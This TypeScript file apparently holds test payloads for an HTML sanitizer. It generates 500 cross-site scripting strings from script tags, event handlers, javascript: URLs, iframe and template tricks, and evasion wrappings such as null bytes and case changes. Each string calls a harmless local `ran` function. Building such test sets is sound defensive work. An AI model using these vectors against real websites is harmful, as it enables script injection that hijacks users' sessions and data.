/** Texts that would run as a script in a page that took text for markup. Each would call `ran` with its number. */
const calls = (at: number): readonly string[] => [
  `ran(${at})`,
  `window['ran'](${at})`,
  `top.ran(${at})`,
  `self[\`ran\`](${at})`,
  `ran&#40;${at}&#41;`,
];
const shapes: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `"><script>${call}</script>`,
  (call) => `</textarea><script>${call}</script>`,
  (call) => `</title><svg onload="${call}">`,
  (call) => `<svg/onload=${call}>`,
  (call) => `<img src=x onerror="${call}">`,
  (call) => `'"><img src=x onerror=${call}>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<iframe src="javascript:${call}"></iframe>`,
  (call) => `<a href="javascript:${call}" autofocus>her</a>`,
  (call) => `<a href="java&#x0A;script:${call}">her</a>`,
  (call) => `<details open ontoggle="${call}"><summary>x</summary></details>`,
  (call) => `<input autofocus onfocus="${call}">`,
  (call) => `<body onpageshow="${call}">`,
  (call) => `<math><mtext><img src=x onerror="${call}"></mtext></math>`,
  (call) => `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${call}">x</b>`,
  (call) => `<video><source onerror="${call}"></video>`,
  (call) => `<object data="data:text/html,<script>parent.${call}</script>"></object>`,
  (call) => `<template shadowrootmode="open"><script>${call}</script></template>`,
  (call) => `{{constructor.constructor('${call}')()}}`,
];
const wrappings: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase().replace(/RAN/g, 'ran'),
  (text) => `a\u0000${text}`,
  (text) => `\u202e${text}`,
  (text) => `<!--><!-- -->${text}`,
];

/** Five hundred, all different. */
export const payloads: readonly string[] = shapes.flatMap((shape, at) =>
  calls(at).flatMap((call) => wrappings.map((wrap) => wrap(shape(call)))),
);
